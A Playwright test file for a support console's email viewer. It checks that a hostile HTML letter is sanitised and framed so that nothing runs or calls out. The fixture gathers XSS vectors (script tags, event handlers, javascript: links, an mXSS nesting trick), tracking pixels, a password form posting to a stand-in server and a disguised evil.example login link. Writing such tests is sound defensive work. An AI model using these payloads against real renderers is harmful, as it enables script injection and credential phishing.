import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { FrameLocator, Page } from "@playwright/test";
import { messageTexts as words } from "../console/src/service/messages/texts.ts";
import { legible, tame } from "../server/platform/mail/html.ts";
import { expect, expectNoSideways, header, test } from "./journey.ts";

/** Somebody else's server: what reaches it has left the console. */
const reached: string[] = [];
const server = createServer((request, reply) => {
  reached.push(request.url!);
  reply.writeHead(200, { "content-type": "text/html" }).end("<p>ok</p>");
}).listen(0, "127.0.0.1");
await once(server, "listening");
const elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
test.beforeEach(() => void (reached.length = 0));
test.afterAll(() => void server.close());

const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** All that a hostile letter tries: to run, to fetch, to send, to leave its frame, to look like us. */
const hostile = `
<html><head><meta http-equiv="refresh" content="0;url=${elsewhere}/refreshed"><base href="${elsewhere}/"><link rel="stylesheet" href="${elsewhere}/style.css">
<style>@import "${elsewhere}/import.css"; body { background: url(${elsewhere}/background.png) } .over { position: fixed; inset: 0; z-index: 99999 }</style></head>
<body onload="top.ran=1" background="${elsewhere}/body.png">
<p>您好，我家的电视<b>没有信号</b>。</p>
<script>top.ran = 1; fetch("${elsewhere}/script")</script><script src="${elsewhere}/script.js"></script>
<img src="x" onerror="top.ran=1"><img src="${elsewhere}/track.gif" width="1" height="1"><img src="/api/v1/me" alt="内部"><img srcset="${elsewhere}/set.png 2x">
<svg onload="top.ran=1"><script>top.ran=1</script><image href="${elsewhere}/svg.png" /></svg>
<math><mtext><table><mglyph><style><img src=x onerror=top.ran=1></style></mglyph></table></mtext></math>
<a href="javascript:top.ran=1">点这里领奖</a> <a href="https://youzhang.example@evil.example/login">您的银行</a> <a href="/logout">退出</a>
<form action="${elsewhere}/form" method="post"><input name="password" autofocus onfocus="top.ran=1"><button formaction="${elsewhere}/button">登录</button></form>
<iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed"><video src="${elsewhere}/video" autoplay></video>
<div class="over" style="position:fixed;inset:0;background:url(${elsewhere}/inline.png)">盖住页面</div>
<img src="cid:shot@a" alt="截图">
<p>谢谢。</p></body></html>`;

const id = "0197aaaa-0000-7000-8000-0000000000aa";

/** A ticket whose words came as this letter. */
async function ticketWith(page: Page, mark: string, html: string, heldBack = 0): Promise<string> {
  const reply = await page.context().request.post("/api/v1/tickets", {
    headers: header,
    data: { customerId: null, kind: "enquiry", source: "email", subject: `没有信号 ${mark}`, content: "没有信号。" },
  });
  const ticket = (await reply.json()) as { id: string; openedAt: string };
  const base = `**/api/v1/tickets/${ticket.id}`;
  const json = (body: object) => ({ contentType: "application/json", body: JSON.stringify(body) });
  await page.route(`${base}/letters`, (route) =>
    route.fulfill(json({ items: [{ id, entryId: null, receivedAt: ticket.openedAt }] })),
  );
  const pictures = [{ contentId: "shot@a", attachmentId: id, ticketId: ticket.id }];
  await page.route(`${base}/letters/${id}`, (route) =>
    route.fulfill(json({ id, html, heldBack, cut: false, pictures })),
  );
  await page.route(`${base}/attachments/${id}/file`, (route) =>
    route.fulfill({ contentType: "image/png", body: Buffer.from(png, "base64") }),
  );
  return ticket.id;
}

/** The letter in its frame, once it shows this; browsers lay out frames of other origins while they are in sight. */
async function frameOf(page: Page, title: string, text: string): Promise<FrameLocator> {
  const frame = page.locator(`iframe[title="${title}"]`);
  await expect(async () => {
    await frame.scrollIntoViewIfNeeded({ timeout: 1_000 });
    await expect(frame.contentFrame().getByText(text)).toBeVisible({ timeout: 1_000 });
  }).toPass({ timeout: 15_000 });
  return frame.contentFrame();
}
const ran = (page: Page) => page.evaluate<unknown>("window.ran");

test("a hostile letter is read as it was written: nothing runs, nothing is fetched, nothing leaves its frame", async ({
  page,
  signIn,
  say,
  mark,
}) => {
  const problems: string[] = [];
  page.on("pageerror", (error) => problems.push(error.message));
  await signIn("agent");
  const { html, heldBack } = legible(tame(hostile).html!);
  const ticketId = await ticketWith(page, mark, html, heldBack);
  await page.goto(`/tickets/${ticketId}`);
  const thread = page.locator(".thread");
  await expect(thread.getByText("没有信号。")).toBeVisible();
  await thread.getByText(say(words.asWritten), { exact: true }).click();
  const letter = await frameOf(page, say(words.asWritten), "您好，我家的电视没有信号。");
  await expect(letter.getByText("谢谢。")).toBeAttached();
  await expect(letter.locator('img[alt="截图"]')).toHaveJSProperty("naturalWidth", 1);
  await expect(page.getByText(say(words.heldBack, { count: heldBack }))).toBeVisible();

  const bank = letter.getByText("您的银行");
  expect(await bank.getAttribute("href")).toBe("https://evil.example/login");
  const after = await bank.evaluate((one) => (globalThis as any).getComputedStyle(one, "::after").content);
  expect(after).toContain("evil.example/login");
  expect(await bank.getAttribute("rel")).toContain("noopener");
  expect(await letter.getByText("点这里领奖").getAttribute("href")).toBeNull();
  expect(await letter.getByText("退出").getAttribute("href")).toBeNull();
  for (const tag of ["script", "form", "input", "iframe", "object", "embed", "svg", "video", "link", "base"])
    await expect(letter.locator(tag)).toHaveCount(0);

  // As high as what stands in it: all of it is read without scrolling in the frame.
  const frame = page.locator(`iframe[title="${say(words.asWritten)}"]`);
  const [own, inside] = [
    await frame.evaluate((one) => one.clientHeight),
    await letter.locator("body").evaluate((one) => one.ownerDocument.documentElement.scrollHeight),
  ];
  expect(Math.abs(own - inside)).toBeLessThanOrEqual(2);
  await expectNoSideways(page);
  // The state is in the address, and so is the way back.
  expect(page.url()).toContain(`letter=${id}`);
  await page.locator(".letter-switch").getByText(say(words.asText), { exact: true }).click();
  await expect(frame).toHaveCount(0);
  expect(await ran(page)).toBeUndefined();
  expect(reached).toEqual([]);
  expect(problems).toEqual([]);
});

test("were it not tamed at all, the paper would still hold it", async ({ page, signIn, say, mark }) => {
  await signIn("agent");
  const ticketId = await ticketWith(page, mark, hostile);
  await page.goto(`/tickets/${ticketId}?letter=${id}`);
  await frameOf(page, say(words.asWritten), "没有信号");
  // And were the paper not ours: the frame alone, with the letter as it came.
  const page1 = page.url();
  await page.locator("iframe").evaluate((one: any, html) => {
    one.srcdoc = one.srcdoc.replace("</body>", () => `${html}</body>`);
  }, hostile);
  await expect(page.locator("iframe").contentFrame().getByText("盖住页面")).toHaveCount(2);
  await page.waitForTimeout(1_500);
  expect(page.url()).toBe(page1);
  expect(await ran(page)).toBeUndefined();
  expect(reached).toEqual([]);
});

test("a letter that is a bomb neither stops the console nor is it unreadable", async ({ page, signIn, say, mark }) => {
  await signIn("agent");
  const deep = `${"<div>".repeat(9_000)}内容在最里面${"</div>".repeat(9_000)}`;
  const { html } = legible(tame(deep).html!);
  // What is larger has no letter as written: only its words.
  expect(tame("<b>".repeat(30_000)).html).toBeNull();
  const wide = `<p title="${"x".repeat(300_000)}">宽</p>${"<i>字</i>".repeat(5_000)}`;
  const ticketId = await ticketWith(page, mark, `${html}${legible(tame(wide).html!).html}`);
  await page.goto(`/tickets/${ticketId}?letter=${id}`);
  await frameOf(page, say(words.asWritten), "内容在最里面");
  // The page still answers.
  await page.locator(".letter-switch").getByText(say(words.asText), { exact: true }).click();
  await expect(page.locator(".thread").getByText("没有信号。")).toBeVisible({ timeout: 3_000 });
  await expectNoSideways(page);
});

test("paper stays white in the dark, and a link opens a tab of its own without a way back", async ({
  page,
  signIn,
  say,
  mark,
}) => {
  await page.emulateMedia({ colorScheme: "dark" });
  await signIn("agent");
  const { html } = legible(tame(`<p>见 <a href="${elsewhere}/page">这里</a></p>`).html!);
  const ticketId = await ticketWith(page, mark, html);
  await page.goto(`/tickets/${ticketId}?letter=${id}`);
  const letter = await frameOf(page, say(words.asWritten), "这里");
  const body = letter.locator("body > .letter");
  await expect(body).toHaveCSS("background-color", "rgb(255, 255, 255)");
  await expect(body).toHaveCSS("color", "rgb(31, 35, 41)");
  const [tab] = await Promise.all([page.context().waitForEvent("page"), letter.getByText("这里").click()]);
  await tab.waitForLoadState();
  expect(tab.url()).toBe(`${elsewhere}/page`);
  // The server that proves the others' silence does hear.
  expect(reached).toContain("/page");
  expect(await tab.evaluate<unknown>("[window.opener, document.referrer]")).toEqual([null, ""]);
});
